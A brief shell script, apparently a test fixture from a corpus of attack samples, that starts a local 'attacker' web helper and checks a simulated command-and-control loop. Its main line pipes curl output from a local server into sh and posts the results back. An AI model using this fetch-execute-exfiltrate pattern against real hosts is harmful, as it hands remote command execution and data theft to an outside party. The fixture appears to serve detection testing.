# Commands are fetched, their answer is sent when the shell has ended.
. "$CORPUS/lib/common.sh"
attacker web 31045
for i in 1 2 3; do curl -s http://127.0.0.1:31045/ | sh 2>&1 | curl -s --data-binary @- http://127.0.0.1:31045/; sleep 1; done &
loop=$!
wait $peer
answered=$?
kill $loop
exit $answered
